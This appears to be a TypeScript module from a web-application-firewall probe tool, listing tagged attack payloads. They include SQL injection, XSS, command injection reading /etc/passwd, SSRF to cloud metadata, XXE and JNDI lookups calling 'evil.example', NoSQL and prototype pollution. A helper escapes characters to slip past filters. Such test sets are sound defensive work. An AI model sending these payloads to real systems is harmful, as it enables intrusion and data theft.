// The curated probe set: two payloads per attack category, chosen to be unambiguous attacks any WAF should refuse.
// Each payload carries the token VIGILPROBE so it is never mistaken for real traffic in logs.

export type AttackCategory = 'sqli' | 'xss' | 'cmdi' | 'path-traversal' | 'ssrf' | 'xxe' | 'ssti' | 'jndi' | 'nosql' | 'prototype-pollution';

export interface AttackPayload {
  category: AttackCategory;
  text: string;
  /** A JSON value to put in a body field instead of the text (structural injections). */
  json?: unknown;
  /** Raw JSON members to splice into a body object (keys JSON.stringify cannot produce, like __proto__). */
  members?: string;
}

export const PAYLOADS: AttackPayload[] = [
  { category: 'sqli', text: "' OR '1'='1' -- VIGILPROBE" },
  { category: 'sqli', text: '1 UNION SELECT username, password FROM users-- VIGILPROBE' },
  { category: 'xss', text: '<script>alert("VIGILPROBE")</script>' },
  { category: 'xss', text: '<img src=x onerror=alert(1)>VIGILPROBE' },
  { category: 'cmdi', text: '; cat /etc/passwd #VIGILPROBE' },
  { category: 'cmdi', text: '$(id) VIGILPROBE' },
  { category: 'path-traversal', text: '../../../../etc/passwd' },
  { category: 'path-traversal', text: '....//....//....//etc/passwd' },
  { category: 'ssrf', text: 'http://169.254.169.254/latest/meta-data/?VIGILPROBE' },
  { category: 'ssrf', text: 'gopher://127.0.0.1:6379/_INFO' },
  { category: 'xxe', text: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;VIGILPROBE</r>' },
  { category: 'xxe', text: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r>VIGILPROBE</r>' },
  { category: 'ssti', text: '{{7*7}}{{config.items()}}VIGILPROBE' },
  { category: 'ssti', text: "{{''.__class__.__mro__[1].__subclasses__()}}VIGILPROBE" },
  { category: 'jndi', text: '${jndi:ldap://evil.example/VIGILPROBE}' },
  { category: 'jndi', text: '${${lower:j}ndi:ldap://evil.example/VIGILPROBE}' },
  { category: 'nosql', text: '{"$where": "sleep(1000) || \'VIGILPROBE\'"}', json: { $where: "sleep(1000) || 'VIGILPROBE'" } },
  { category: 'nosql', text: '{"$where": "this.password.match(/.*/)"}', json: { $where: 'this.password.match(/.*/)', $ne: null } },
  { category: 'prototype-pollution', text: '{"__proto__": {"isAdmin": true}}', members: '"__proto__": {"isAdmin": true}' },
  { category: 'prototype-pollution', text: 'constructor[prototype][isAdmin]=true', members: '"constructor": {"prototype": {"isAdmin": true}}' },
];

export const CATEGORIES: AttackCategory[] = [...new Set(PAYLOADS.map((p) => p.category))];

/** Every byte that is not a letter or digit as \uXXXX: the same JSON value, written the way some filters miss. */
export function jsonUnicodeString(text: string): string {
  return `"${[...text].map((c) => (/[A-Za-z0-9 ]/.test(c) ? c : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('')}"`;
}
